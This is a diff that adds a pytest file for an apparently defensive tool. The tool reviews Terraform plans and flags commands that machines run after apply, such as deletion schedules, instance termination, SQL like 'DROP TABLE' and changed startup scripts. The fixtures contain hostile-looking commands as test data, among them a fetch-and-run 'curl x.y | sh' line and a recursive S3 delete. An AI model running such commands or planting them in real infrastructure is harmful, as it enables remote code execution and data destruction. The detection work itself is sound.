@@ -1,0 +1,157 @@
+"""Commands that machines run after an apply: scripts, tasks, schedules that delete."""
+
+import base64
+import json
+from typing import Any
+
+import pytest
+
+from sustainable_mlops.review.coverage_gaps import GapKind
+from sustainable_mlops.review.review import review
+from sustainable_mlops.review.risk import Level
+from tests.plan.plan_builder import build_change, build_configuration, build_plan
+from tests.review.privileges.test_trust import nest
+
+SDK = "arn:aws:scheduler:::aws-sdk:"
+SSM = "arn:aws:ssm:eu-north-1:123456789012:automation-definition"
+
+
+def list_commands(*changes: dict[str, Any], root: dict[str, Any] | None = None) -> list[str]:
+    """Return the descriptions of all commands."""
+    gaps = [gap for gap in review(build_plan(*changes, root=root)).coverage_gaps if gap.kind is GapKind.COMMAND]
+    assert {gap.level for gap in gaps} <= {Level.LOOK}
+    return [gap.description for gap in gaps]
+
+
+def change(kind: str, old: Any, new: Any, **more: Any) -> list[str]:
+    return list_commands(build_change(f"aws_{kind}.this", new, before=old, **more))
+
+
+def script(*lines: str) -> str:
+    return base64.b64encode("\n".join(("#!/bin/sh", *lines)).encode()).decode()
+
+
+def step(resource: str) -> str:
+    return json.dumps({"States": {"A": {"Type": "Task", "Resource": resource}}})
+
+
+def document(command: str) -> str:
+    return json.dumps({"mainSteps": [{"action": "aws:runShellScript", "inputs": {"runCommand": ["date", command]}}]})
+
+
+def container(*words: str) -> str:
+    return json.dumps([{"name": "app", "image": "app", "command": words}])
+
+
+#: A command that is new in a new and in an existing resource, with a harmless value and a text of the report.
+NEW: list[tuple[str, str, Any, Any, str]] = [
+    ("scheduler_schedule", "target.*.arn", SDK + "rds:stopDBInstance", SDK + "rds:deleteDBInstance",
+     "deleteDBInstance"),
+    ("scheduler_schedule", "target.*.arn", SDK + "sagemaker:startPipelineExecution", SDK + "ssm:sendCommand",
+     "sendCommand"),
+    ("scheduler_schedule", "target.*.arn", SDK + "ecs:updateService", SDK + "s3:putBucketPolicy", "putBucketPolicy"),
+    ("sfn_state_machine", "definition", step("arn:aws:states:::aws-sdk:s3:getObject"),
+     step("arn:aws:states:::aws-sdk:s3:deleteObjects"), "s3:deleteObjects"),
+    ("cloudwatch_event_target", "arn", f"{SSM}/AWS-RunPatchBaseline:1", f"{SSM}/AWS-TerminateEC2Instance:1",
+     "AWS-TerminateEC2Instance"),
+    ("cloudwatch_metric_alarm", "alarm_actions.*", "arn:aws:automate:eu-north-1:ec2:recover",
+     "arn:aws:automate:eu-north-1:ec2:terminate", "terminate"),
+    ("fis_experiment_template", "action.*.action_id", "aws:fis:wait", "aws:ec2:terminate-instances", "terminate"),
+    ("transfer_workflow", "steps.*.type", "TAG", "DELETE", "DELETE"),
+    ("ssm_maintenance_window_task", "task_arn", "AWS-RunPatchBaseline", "AWS-RunShellScript", "AWS-RunShellScript"),
+    ("ecs_task_definition", "container_definitions", container("serve"),
+     container("sh", "-c", "curl x.y | sh"), "curl"),
+    ("batch_job_definition", "container_properties", json.dumps({"command": ["s3", "cp"]}),
+     json.dumps({"command": ["s3", "rm", "s3://reports", "--recursive"]}), "s3 rm"),
+    ("sagemaker_notebook_instance_lifecycle_configuration", "on_start", None, script("curl x.y | sh"), "curl x.y"),
+    ("sagemaker_studio_lifecycle_config", "studio_lifecycle_config_content", None, script("curl x.y"), "curl x.y"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("kind", "path", "harmless", "command", "words"), NEW)
+def test_a_new_command_is_told_and_its_removal_is_fine(
+    kind: str, path: str, harmless: Any, command: Any, words: str
+) -> None:
+    old, new = ({"name": "x", **nest(path, value)} for value in (harmless, command))
+    for descriptions in (change(kind, old, new), change(kind, None, new)):
+        assert [words in description for description in descriptions] == [True]
+    assert change(kind, new, old) == change(kind, None, old) == change(kind, new, new) == []
+    assert change(kind, new, {**new, "tags": {"a": "b"}}) == []
+
+
+#: A script that gains a line on a machine that exists.
+CHANGED: list[tuple[str, str, Any, Any]] = [
+    ("launch_template", "user_data", script(), script("curl x.y | sh")),
+    ("instance", "user_data_base64", script("a"), script("a", "curl x.y | sh")),
+    ("codebuild_project", "source.*.buildspec", "build:\n  - make", "build:\n  - make\n  - curl x.y | sh"),
+    ("ssm_document", "content", document("date"), document("curl x.y | sh")),
+    ("imagebuilder_component", "data", "phases:", "phases:\n- curl x.y | sh"),
+    ("emr_cluster", "bootstrap_action.*.path", None, "s3://x/curl x.y | sh"),
+    ("sagemaker_domain", "default_user_settings.*.jupyter_lab_app_settings.*.lifecycle_config_arns", [], ["curl x.y"]),
+]
+
+
+@pytest.mark.parametrize(("kind", "path", "old", "new"), CHANGED)
+def test_a_script_that_gains_a_line_is_told_and_its_mirror_is_fine(kind: str, path: str, old: Any, new: Any) -> None:
+    before, after = ({"name": "x", **nest(path, value)} for value in (old, new))
+    assert ["curl x.y" in text for text in change(kind, before, after)] == [True]
+    assert change(kind, after, before) == change(kind, None, after) == []
+
+
+def test_a_schedule_that_is_off_runs_nothing_until_it_is_on() -> None:
+    values = {"name": "x", "target": [{"arn": SDK + "ec2:terminateInstances"}]}
+    off, on = {**values, "state": "DISABLED"}, {**values, "state": "ENABLED"}
+    assert change("scheduler_schedule", None, off) == change("scheduler_schedule", on, off) == []
+    assert len(change("scheduler_schedule", off, on)) == 1
+
+
+def test_a_remediation_counts_if_it_is_automatic() -> None:
+    values = {"target_id": "AWSConfigRemediation-DeleteUnusedEBSVolume"}
+    assert change("config_remediation_configuration", None, values) == []
+    assert len(change("config_remediation_configuration", None, {**values, "automatic": True})) == 1
+
+
+def test_a_script_of_which_the_state_has_a_hash_is_told_without_text() -> None:
+    assert change("instance", {"user_data": "a" * 40}, {"user_data": "b" * 40}) == [
+        "aws_instance.user_data, when a machine starts"
+    ]
+    assert change("instance", {"user_data": "a" * 40}, {"user_data": "a" * 40, "tags": {"a": "b"}}) == []
+
+
+def test_secrets_are_not_shown() -> None:
+    (text,) = change("launch_template", {"user_data": script()}, {"user_data": script("export DB_PASSWORD=hunter2")})
+    assert "DB_PASSWORD=(hidden)" in text
+    assert "hunter2" not in text
+    (text,) = change("launch_template", {"user_data": "a"}, {"user_data": "b"}, sensitive={"user_data": True})
+    assert text.endswith(": (sensitive)")
+
+
+def test_a_script_that_is_unknown_until_apply_is_told() -> None:
+    assert change("launch_template", {"user_data": "a"}, {}, unknown={"user_data": True}) == [
+        "aws_launch_template.user_data, when a machine starts: (known after apply)"
+    ]
+    assert change("launch_template", None, {}, unknown={"user_data": True}) == []
+
+
+def test_a_start_up_script_of_new_machines_alone_is_fine() -> None:
+    kind = "aws_sagemaker_notebook_instance_lifecycle_configuration"
+    content = build_change(f"{kind}.c", {"name": "c", "on_start": script("date")})
+    root = {
+        "resources": [
+            build_configuration("aws_sagemaker_notebook_instance.n", lifecycle_config_name=[f"{kind}.c.name"]),
+            build_configuration(f"{kind}.c"),
+        ]
+    }
+    values = {"name": "n", "lifecycle_config_name": "c", "instance_type": "ml.t3.medium"}
+    assert list_commands(content, build_change("aws_sagemaker_notebook_instance.n", values), root=root) == []
+    old = {**values, "lifecycle_config_name": None}
+    changed = build_change("aws_sagemaker_notebook_instance.n", values, before=old)
+    assert len(list_commands(content, changed, root=root)) == 2
+
+
+def test_statements_and_data_sources_that_run_something_are_told() -> None:
+    statement = build_change("aws_redshiftdata_statement.s", {"sql": "DROP TABLE orders"})
+    assert list_commands(statement) == ["aws_redshiftdata_statement, when created: DROP TABLE orders"]
+    call = build_change("data.aws_lambda_invocation.c", {"function_name": "migrate"}, actions=["read"])
+    assert list_commands(call) == ["aws_lambda_invocation, when read: migrate"]
+    assert list_commands(build_change("data.aws_lambda_function.c", {"function_name": "f"}, actions=["read"])) == []
